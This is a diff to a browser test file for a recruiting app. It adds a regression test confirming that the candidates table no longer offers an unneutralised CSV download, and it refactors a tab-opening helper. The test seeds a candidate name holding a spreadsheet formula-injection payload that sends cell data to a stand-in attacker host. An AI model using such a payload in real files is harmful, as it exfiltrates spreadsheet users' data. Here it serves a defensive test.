@@ -12,6 +12,7 @@ import pytest
 
 from assessment.access.accounts import add_user
 from assessment.demo import seed_demo
+from assessment.recruiting.invitations import InvitationRequest, invite_candidates
 from assessment.recruiting.overview import candidate_overview
 from items import load_bank
 from tests.browser.candidate import open_link, wait
@@ -38,6 +39,37 @@ def sign_in(page: Any, server: Server, username: str) -> None:
     page.get_by_text("You are signed in as").wait_for(timeout=30_000)
 
 
+def open_candidates_tab(page: Any) -> None:
+    """Open the recruiter page and its Candidates tab."""
+    page.get_by_role("link", name="Candidates").click()
+    page.get_by_role("tab", name="Candidates").wait_for(timeout=30_000)
+    wait(page)
+    page.get_by_role("tab", name="Candidates").click()
+    wait(page)
+
+
+def test_the_candidates_table_offers_no_csv_download_that_skips_neutralising(
+    server: Server, browser: Any, recruiter: str
+) -> None:
+    """The table's own toolbar used to offer "Download as CSV", which wrote a typed name such
+    as =HYPERLINK(…) raw, unaudited and without the session check; only the Export tab's
+    neutralised, audited buttons may write files."""
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    invite_candidates(
+        server.store, [InvitationRequest(hostile, "hostile@example.com")], actor="test"
+    )
+    page = browser.new_page(viewport={"width": 1280, "height": 1000})
+    sign_in(page, server, recruiter)
+    open_candidates_tab(page)
+    table = page.get_by_test_id("stDataFrame")
+    table.wait_for(timeout=30_000)
+    table.hover()
+    toolbar = page.get_by_test_id("stElementToolbar")
+    toolbar.get_by_role("button", name="Search").wait_for(timeout=30_000)
+    assert toolbar.get_by_role("button", name="Download as CSV").count() == 0
+    page.close()
+
+
 @pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext is not installed")
 def test_recruiter_downloads_a_profile_pdf(
     server: Server, browser: Any, recruiter: str, tmp_path: Path
@@ -46,11 +78,7 @@ def test_recruiter_downloads_a_profile_pdf(
     assert completed, "the demo seed has completed candidates"
     page = browser.new_page(viewport={"width": 1280, "height": 1000}, accept_downloads=True)
     sign_in(page, server, recruiter)
-    page.get_by_role("link", name="Candidates").click()
-    page.get_by_role("tab", name="Candidates").wait_for(timeout=30_000)
-    wait(page)
-    page.get_by_role("tab", name="Candidates").click()
-    wait(page)
+    open_candidates_tab(page)
     page.get_by_test_id("stMetric").filter(has_text="Completed").wait_for(timeout=30_000)
     page.get_by_test_id("stDataFrame").wait_for(timeout=30_000)
     page.get_by_role("tab", name="Profile").click()
